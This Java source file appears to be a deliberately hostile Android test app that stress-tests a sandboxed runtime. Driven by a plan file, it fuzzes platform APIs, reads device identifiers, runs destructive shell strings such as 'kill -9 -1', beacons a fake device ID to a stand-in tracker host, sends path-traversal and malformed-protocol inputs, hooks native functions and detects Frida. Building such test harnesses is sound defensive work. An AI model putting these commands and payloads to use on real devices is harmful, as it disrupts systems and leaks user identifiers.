package org.example.hostile;

import java.io.*;
import java.lang.reflect.*;
import java.net.*;
import java.nio.file.*;
import java.util.*;
import standin.Device;

/** Does what its plan says: each line is a thread's actions, one after the other. What fails, fails. */
public class Main extends android.app.Activity {
    static native int restore(String function);
    static native int redirect(Object env, Class<?> a, String method, String signature, Class<?> b, String other, String s);
    static native int own(Class<?> target, String method, String signature);
    static native int over(int how, long seed);
    static native int spawn(int how, int count);
    static native int end(int how);
    static native int closeAll(int from, int to);
    static native int hog(int megabytes);

    static Random chance;

    static void say(String text) { android.util.Log.i("hostile", text); }

    static Object call(String method, Object... pairs) {
        Map<String, Object> a = new HashMap<>();
        for (int i = 0; i < pairs.length; i += 2) a.put((String) pairs[i], pairs[i + 1]);
        try { return Device.call(method, a); } catch (Throwable e) { return "!" + e; }
    }

    @Override protected void onCreate(android.os.Bundle state) {
        super.onCreate(state);
        try {
            // what was packed beside the classes, which the Android Runtime does not read itself
            Path place = Path.of("" + call("fs.path", "path", getPackageCodePath())).resolveSibling("classes");
            System.load(place + "/hostile.so");
            List<String> plan = Files.readAllLines(place.resolve("plan.txt"));
            chance = new Random(Long.parseLong(plan.get(0)));
            for (String line : plan.subList(1, plan.size()))
                new Thread(() -> { for (String act : line.split(" ")) try { act(act); } catch (Throwable e) { } }).start();
        } catch (Throwable e) { say("!" + e); }
        say("begun");
    }

    void act(String word) throws Throwable {
        String[] parts = word.split(":");
        int n = parts.length > 1 ? Integer.parseInt(parts[1]) : 0;
        say("act " + word);
        switch (parts[0]) {
            case "wait": Thread.sleep(n); break;
            case "calls": for (int i = 0; i < n; i++) anything(); break;
            case "ids": for (int i = 0; i < n; i++) ids(); break;
            case "log": for (int i = 0; i < n; i++) log(i); break;
            case "files": for (int i = 0; i < n; i++) file(i); break;
            case "deep": deep(n); break;
            case "net": for (int i = 0; i < n; i++) net(); break;
            case "wire": for (int i = 0; i < n; i++) wire(i); break;
            case "detect": detect(); break;
            case "unhook": say("unhooked " + restore(FUNCTIONS[n % FUNCTIONS.length])); ids(); break;
            case "redirect":
                say("redirected " + redirect(null, android.telephony.TelephonyManager.class, "getDeviceId",
                    "()Ljava/lang/String;", android.telephony.TelephonyManager.class, "getNetworkOperatorName",
                    "()Ljava/lang/String;"));
                break;
            case "register":
                say("registered " + own(android.telephony.TelephonyManager.class, "getDeviceId", "()Ljava/lang/String;"));
                break;
            case "over": over(n, chance.nextLong()); break;
            case "spawn": spawn(n % 3, 1 + n / 3); break;
            case "shell": new ProcessBuilder("/bin/sh", "-c", SHELLS[n % SHELLS.length]).start(); break;
            case "close": closeAll(3, 3 + n); break;
            case "hog": hog(n); break;
            case "die":
                if (n == 0) System.exit(3);
                if (n == 1) Runtime.getRuntime().halt(0);
                if (n == 2) throw new Error("uncaught on purpose");
                end(n);
        }
    }

    static final String[] FUNCTIONS = {"open", "openat", "fopen", "access", "stat", "getifaddrs", "connect", "ioctl"};
    static final String[] SHELLS = {
        "while :; do :; done", "kill -9 -1", "kill -STOP $PPID", "exec sleep 600", "cat /proc/*/cmdline /proc/*/maps",
        "for i in 1 2 3 4 5 6 7 8 9; do sh -c 'trap \"\" TERM HUP; sleep 600' & done",
    };

    /** A method of a random platform class with random arguments. */
    void anything() {
        try {
            Class<?> c = Class.forName(CLASSES[chance.nextInt(CLASSES.length)]);
            Method[] all = c.getMethods();
            Method m = all[chance.nextInt(all.length)];
            if (m.getName().matches("wait|notify.*|exit|halt|join|sleep|finish.*|killProcess|stop.*")) return;
            Object self = Modifier.isStatic(m.getModifiers()) ? null : object(c);
            Class<?>[] types = m.getParameterTypes();
            Object[] args = new Object[types.length];
            for (int i = 0; i < args.length; i++) args[i] = value(types[i]);
            m.invoke(self, args);
        } catch (Throwable e) { }
    }

    static final String[] CLASSES = (
        "android.telephony.TelephonyManager android.net.wifi.WifiManager android.content.pm.PackageManager "
        + "android.location.LocationManager android.provider.Settings$Secure android.content.ContentResolver "
        + "android.accounts.AccountManager android.hardware.SensorManager android.os.Build android.app.ActivityManager "
        + "android.content.ClipboardManager android.media.MediaRecorder android.hardware.Camera java.net.NetworkInterface "
        + "android.content.Context android.app.Activity android.webkit.WebView android.os.Environment java.io.File "
        + "android.content.SharedPreferences java.security.MessageDigest javax.crypto.Cipher java.lang.Runtime").split(" ");
    static final String[] SERVICES = {"phone", "wifi", "location", "account", "sensor", "activity", "clipboard"};

    Object object(Class<?> c) throws Exception {
        if (c.isInstance(this)) return this;
        for (String name : SERVICES) {
            Object found = getSystemService(name);
            if (c.isInstance(found)) return found;
        }
        if (c.isInstance(getPackageManager())) return getPackageManager();
        if (c.isInstance(getContentResolver())) return getContentResolver();
        return c.getDeclaredConstructor().newInstance();
    }

    Object value(Class<?> t) {
        if (t == boolean.class) return chance.nextBoolean();
        if (t == int.class) return chance.nextInt();
        if (t == long.class) return chance.nextLong();
        if (t == byte.class) return (byte) chance.nextInt();
        if (t == short.class) return (short) chance.nextInt();
        if (t == char.class) return (char) chance.nextInt();
        if (t == float.class) return chance.nextFloat();
        if (t == double.class) return chance.nextDouble();
        if (t == String.class || t == CharSequence.class || t == Object.class) return text();
        if (t.isArray()) return Array.newInstance(t.getComponentType(), chance.nextInt(9));
        return null;
    }

    String text() {
        int kind = chance.nextInt(7);
        if (kind == 0) return null;
        if (kind == 1) return "x".repeat(chance.nextInt(100_000));
        if (kind == 2) return "\u0000\ud800\u202e\u001b[2J\n\r" + (char) chance.nextInt();
        if (kind == 3) return "content://" + (chance.nextBoolean() ? "contacts" : "sms") + "/%00/../" + chance.nextInt();
        if (kind == 4) return "android_id";
        if (kind == 5) return "/proc/self/" + (chance.nextBoolean() ? "mem" : "fd/" + chance.nextInt(40));
        return "{\"a\":".repeat(chance.nextInt(2000));
    }

    void ids() {
        try { android.provider.Settings.Secure.getString(getContentResolver(), "android_id"); } catch (Throwable e) { }
        try { ((android.telephony.TelephonyManager) getSystemService("phone")).getDeviceId(); } catch (Throwable e) { }
    }

    void log(int i) {
        String[] tags = {"ActivityManager", "GrantPermissionsViewModel", "hostile", "AndroidRuntime", "\n\u0000", "am_proc_died"};
        String[] texts = {
            "Permission grant result requestId=1 callingUid=10100 permission=android.permission.CAMERA isImplicit=false result=4",
            "Process org.example.hostile (pid 1) has died: cch", "x".repeat(5000), "\u001b]0;owned\u0007", "FATAL EXCEPTION: main",
        };
        android.util.Log.println(2 + i % 6, tags[i % tags.length], texts[(i / 7) % texts.length] + i);
    }

    void file(int i) throws IOException {
        File file = new File(getFilesDir(), "f" + chance.nextInt(1000000));
        file.getParentFile().mkdirs();
        FileOutputStream out = new FileOutputStream(file);
        out.write(new byte[1 << (10 + chance.nextInt(11))]);
        if (chance.nextInt(4) == 0) file.delete(); else out.close();
    }

    void deep(int levels) {
        File at = getFilesDir();
        for (int i = 0; i < levels; i++) (at = new File(at, "d")).mkdir();
    }

    void net() {
        try (Socket s = new Socket()) {
            s.connect(new InetSocketAddress(chance.nextBoolean() ? "tracker.example" : "10.0.0." + chance.nextInt(256), 80), 2000);
            byte[] noise = new byte[chance.nextInt(5000)];
            chance.nextBytes(noise);
            String[] heads = {
                "GET /?id=860000000000000 HTTP/1.1\r\nHost: tracker.example\r\n\r\n", "POST / HTTP/1.1\r\nContent-Length: 99999999999\r\n\r\n",
                "\u0016\u0003\u0001", "GET http://127.0.0.1:22/ HTTP/1.0\r\n\r\n", "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffffff\r\n",
            };
            s.getOutputStream().write(heads[chance.nextInt(heads.length)].getBytes("ISO-8859-1"));
            s.getOutputStream().write(noise);
            s.setSoTimeout(200);
            s.getInputStream().read();
        } catch (Throwable e) { }
    }

    /** The device's own wire, past every class. */
    void wire(int i) {
        try (Socket s = new Socket(java.net.Proxy.NO_PROXY)) {
            s.connect(new InetSocketAddress("127.0.0.1", Integer.getInteger("standin.port")), 1000);
            String[] lines = {
                "[]", "null", "{}", "[".repeat(50_000), "{\"m\":\"hello\",\"a\":{\"token\":\"" + System.getProperty("standin.token") + "\",\"pid\":1}}",
                "\u0000\u00ff", "{\"m\":\"hello\",\"a\":{\"token\":{}}}", "9".repeat(100_000), "{\"m\":\"hello\",\"a\":[]}",
            };
            s.getOutputStream().write((lines[chance.nextInt(lines.length)] + "\n").getBytes("ISO-8859-1"));
            s.setSoTimeout(100);
            s.getInputStream().read();
        } catch (Throwable e) { }
        String[] methods = {"state.get", "db.run", "content.query", "ui.window", "activity.start", "alarm.set", "truth", "perm.request", "fs.path", "log"};
        Object[] odd = {null, "", -1, 1e300, "x".repeat(10_000), List.of(List.of()), Map.of("a", Map.of()), true, "../../../../etc/passwd"};
        call(methods[chance.nextInt(methods.length)], "path", odd[chance.nextInt(odd.length)], "uri", odd[chance.nextInt(odd.length)],
            "window", odd[chance.nextInt(odd.length)], "root", odd[chance.nextInt(odd.length)], "what", odd[chance.nextInt(odd.length)],
            "permissions", odd[chance.nextInt(odd.length)], "delay_ms", odd[chance.nextInt(odd.length)]);
    }

    void detect() throws IOException {
        int frida = 0;
        for (String line : Files.readAllLines(Path.of("/proc/self/maps"))) if (line.contains("frida")) frida++;
        for (File task : new File("/proc/self/task").listFiles())
            if (new String(Files.readAllBytes(task.toPath().resolve("comm"))).matches("(?s)(gum|frida|gmain|gdbus).*")) frida++;
        say("detected " + (frida > 0));
    }
}
